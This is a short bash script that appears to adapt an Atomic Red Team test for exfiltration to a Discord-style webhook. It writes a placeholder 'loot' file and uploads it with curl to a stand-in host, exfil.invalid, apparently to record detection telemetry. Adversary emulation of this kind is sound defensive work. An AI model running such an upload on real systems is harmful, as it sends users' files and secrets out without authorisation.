#!/usr/bin/env bash
# Atomic Red Team T1567.004-2: Exfiltrate staged file to a Discord webhook with curl (bash)
# atomic GUID 40c44d16-bb49-4d14-aafa-f9ba7e6e6c5b; technique T1567.004
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    echo "secrets, api keys, passwords - T1567.004 atomic test" > "$W/T1567.004_loot.txt"
    curl -s -F "file=@$W/T1567.004_loot.txt" -m 3 "https://exfil.invalid/api/webhooks/000/atomic"
}
cleanup() {
    :
}
"$1"
